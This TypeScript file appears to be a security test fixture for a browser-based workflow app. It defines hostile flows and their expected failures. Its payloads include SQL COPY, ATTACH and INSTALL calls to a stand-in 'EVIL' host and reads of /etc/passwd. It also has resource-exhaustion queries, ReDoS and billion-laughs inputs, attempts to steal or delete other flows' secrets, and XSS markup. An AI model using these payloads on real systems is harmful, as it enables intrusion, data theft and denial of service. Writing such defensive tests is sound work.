import { expression, flowOf, type HostileFlow, sql } from './hostileFlow'

/** What queries try. */
const SQL_FLOWS: readonly HostileFlow[] = [
  {
    tries: 'to COPY rows TO a server',
    ends: 'over',
    flow: sql('copy_to', `COPY (SELECT 42 AS stolen) TO 'EVIL?hit=copy' (FORMAT csv)`),
  },
  {
    tries: 'to COPY rows TO the files of the app',
    ends: 'FAILED',
    flow: sql('copy_to_files', `COPY (SELECT 42 AS n) TO 'opfs://flowyard.csv' (FORMAT csv)`),
  },
  {
    tries: 'to ATTACH a database of a server',
    ends: 'FAILED',
    flow: sql('attach', `ATTACH 'EVIL?hit=attach' AS other (READ_ONLY); SELECT * FROM other.t`),
  },
  {
    tries: 'to INSTALL an extension of a stranger',
    ends: 'FAILED',
    flow: sql('install', `INSTALL loot FROM 'EVIL?hit=install'; LOAD loot`),
  },
  {
    tries: 'to read what others stored, and the site',
    ends: 'FAILED',
    flow: sql('read', `SELECT * FROM read_text('FILE'); SELECT * FROM read_text('SITE?hit=read')`),
  },
  {
    tries: 'to query for ever',
    ends: 'stop',
    until: /attack/,
    flow: sql(
      'endless',
      `SELECT count(*) FROM range(1000000000000) a, range(1000000) b WHERE a.range % 7 = b.range % 3`,
    ),
  },
  {
    tries: 'to take all memory by a query',
    ends: 'FAILED',
    says: /memory/i,
    flow: sql('query_memory', `SELECT list(repeat('x', 1000) || range) FROM range(100000000)`),
  },
  {
    tries: 'to reach files by SQLite',
    ends: 'FAILED',
    flow: sql('sqlite_files', `ATTACH DATABASE '/etc/passwd' AS other; SELECT load_extension('loot')`, 'sqlite'),
  },
  {
    tries: 'to query for ever by SQLite',
    ends: 'stop',
    until: /attack/,
    flow: sql(
      'sqlite_endless',
      `WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) FROM n`,
      'sqlite',
    ),
  },
]

const MACRO = `{% macro again() %}{{ again() }}{% endmacro %}{{ again() }}`
const DOUBLING = `{% set a = 'xxxxxxxxxx' %}${`{% set a = a ~ a %}`.repeat(60)}{{ a }}`

/** What expressions try. */
const EXPRESSION_FLOWS: readonly HostileFlow[] = [
  {
    tries: 'to get at prototypes and constructors by an expression',
    ends: 'SUCCESS',
    says: /nothing nothing nothing/,
    flow: expression(
      'prototype',
      `{{ flow.id.constructor ?? 'nothing' }} {{ flow.__proto__ ?? 'nothing' }} {{ flow['constructor'] ?? 'nothing' }}`,
    ),
  },
  { tries: 'to recurse without end in an expression', ends: 'FAILED', says: /limit/, flow: expression('macro', MACRO) },
  {
    tries: 'to write an endless text by an expression',
    ends: 'FAILED',
    says: /limit/,
    flow: expression('doubling', DOUBLING),
  },
  {
    tries: 'to loop without end in an expression',
    ends: 'FAILED',
    says: /cannot produce more than/,
    flow: expression('loop', '{% for i in range(0, 2000000000) %}x{% endfor %}'),
  },
  {
    tries: 'to match a runaway pattern',
    ends: 'stop',
    until: /attack/,
    flow: expression('pattern', `{{ '${'a'.repeat(60)}!' | replace({'^(a+)+$': 'x'}, regexp=true) }}`),
  },
  {
    tries: 'to run jq without end',
    ends: 'FAILED',
    flow: expression('jq', `{{ {'a': 1} | jq('[recurse(.)] | length') }}`),
  },
  {
    tries: 'to read the files, keys and secrets of other flows',
    ends: 'FAILED',
    says: /didn't belong to the current execution/,
    flow: ({ file }) =>
      flowOf(
        'others',
        `  - id: attack
    type: io.kestra.plugin.core.debug.Return
    format: "{{ kv('treasure', errorOnMissing=false) }}"
    allowFailure: true
  - id: secret
    type: io.kestra.plugin.core.debug.Return
    format: "{{ secret('TREASURE') }}"
    allowFailure: true
  - id: file
    type: io.kestra.plugin.core.debug.Return
    format: "{{ read('${file}') }}"
`,
      ),
  },
  {
    tries: 'to delete the files and keys of other flows',
    ends: 'FAILED',
    flow: ({ file }) =>
      flowOf(
        'wipe',
        `  - id: attack
    type: io.kestra.plugin.core.kv.Delete
    key: treasure
  - id: all
    type: io.kestra.plugin.core.storage.Delete
    uri: kestra:///
    allowFailure: true
  - id: one
    type: io.kestra.plugin.core.storage.Delete
    uri: ${file}
`,
      ),
  },
]

/** A text of `levels` anchors, each ten times the one before. */
const laughs = (levels: number): string =>
  Array.from({ length: levels }, (_, level) => {
    const items = level === 0 ? Array(10).fill('"ha"') : Array(10).fill(`*a${level - 1}`)
    return `  a${level}: &a${level} [${items.join(', ')}]`
  }).join('\n')

const PAGE = `<script>parent.hit = 1; top.location = 'EVIL?hit=1'; fetch('EVIL?hit=2')</script>
<meta http-equiv="refresh" content="0;url=EVIL?hit=3"><link rel="stylesheet" href="EVIL?hit=4">
<img src="EVIL?hit=5" onerror="parent.hit = 1"><iframe src="EVIL?hit=6"></iframe><object data="EVIL?hit=7"></object>
<form action="EVIL?hit=8"><input autofocus onfocus="this.form.submit()"></form><svg onload="parent.hit = 1"></svg>
<style>@import 'EVIL?hit=9'; body { background: url('EVIL?hit=10') }</style>`
const PICTURE = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.hit = 1">
<script>parent.hit = 1</script><image href="EVIL?hit=11" width="9" height="9"/></svg>`
const NOTES = `# Notes\n\n<script>parent.hit = 1</script> ![x](EVIL?hit=12) [y](javascript:parent.hit=1)`

/** What the text of a flow tries. */
const TEXT_FLOWS: readonly HostileFlow[] = [
  {
    tries: 'to act through HTML, a picture and Markdown that it stored',
    ends: 'SUCCESS',
    looksAt: ['page', 'picture', 'notes'],
    flow: ({ evil }) =>
      flowOf(
        'outputs',
        [
          ['page', '.html', PAGE],
          ['picture', '.svg', PICTURE],
          ['notes', '.md', NOTES],
        ]
          .map(
            ([id, extension, content = '']) => `  - id: ${id}
    type: io.kestra.plugin.core.storage.Write
    extension: ${extension}
    content: ${JSON.stringify(content.replaceAll('EVIL', evil))}
`,
          )
          .join(''),
      ),
  },
  {
    tries: 'to grow without end by YAML aliases',
    ends: 'refused',
    says: /Number of aliases for non-scalar nodes exceeds/,
    flow: () =>
      `${flowOf('laughs', '  - id: attack\n    type: io.kestra.plugin.core.debug.Return\n')}variables:\n${laughs(12)}\n`,
  },
  {
    tries: 'to be nested a hundred thousand levels deep',
    ends: 'refused',
    says: /Nesting Depth exceeded/,
    flow: () =>
      `${flowOf('nested', '  - id: attack\n    type: io.kestra.plugin.core.debug.Return\n')}variables:\n  deep: ${'['.repeat(100_000)}\n`,
  },
  {
    tries: 'to put markup into the page by its names and its log',
    ends: 'SUCCESS',
    flow: () =>
      flowOf(
        'markup',
        `  - id: attack
    type: io.kestra.plugin.core.log.Log
    description: "<img src=x onerror='window.hit = 1'>"
    message: "<img src=x onerror='window.hit = 1'><script>window.hit = 1</script> [x](javascript:window.hit=1)"
labels:
  "<img src=x onerror='window.hit = 1'>": "<svg onload='window.hit = 1'>"
description: "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>"
`,
      ),
  },
  {
    tries: 'to start itself without end',
    ends: 'over',
    flow: () =>
      flowOf(
        'itself',
        `  - id: attack
    type: io.kestra.plugin.core.flow.Subflow
    namespace: company.team
    flowId: "{{ 'itself' }}"
    wait: true
`,
      ),
  },
  {
    tries: 'to run a million tasks',
    ends: 'stop',
    until: /attack/,
    flow: () =>
      flowOf(
        'million',
        `  - id: attack
    type: io.kestra.plugin.core.flow.ForEach
    values: "{{ range(1, 1000000) }}"
    concurrencyLimit: 0
    tasks:
      - id: one
        type: io.kestra.plugin.core.log.Log
        message: "{{ taskrun.value }}"
`,
      ),
  },
  {
    tries: 'to check an input by a runaway pattern',
    ends: 'stop',
    flow: () =>
      `${flowOf('validator', '  - id: attack\n    type: io.kestra.plugin.core.debug.Return\n')}inputs:\n  - id: text\n    type: STRING\n    validator: "^(a+)+$"\n    defaults: ${'a'.repeat(60)}!\n`,
  },
  {
    tries: 'to call the app, files and texts as addresses',
    ends: 'WARNING',
    flow: ({ site }) =>
      flowOf(
        'addresses',
        [`${site}resources.json?hit=1`, 'file:///etc/passwd', 'data:text/plain,x', 'blob:null/x', 'javascript:alert(1)']
          .map(
            (uri, index) => `  - id: attack${index}
    type: io.kestra.plugin.core.http.Request
    uri: "${uri}"
    allowFailure: true
`,
          )
          .join(''),
      ),
  },
  {
    tries: 'to read an answer that never ends',
    ends: 'stop',
    until: /attack/,
    flow: ({ evil }) =>
      flowOf(
        'endless_answer',
        `  - id: attack\n    type: io.kestra.plugin.core.http.Download\n    uri: ${evil}endless\n`,
      ),
  },
]

export const OTHER_FLOWS: readonly HostileFlow[] = [...SQL_FLOWS, ...EXPRESSION_FLOWS, ...TEXT_FLOWS]
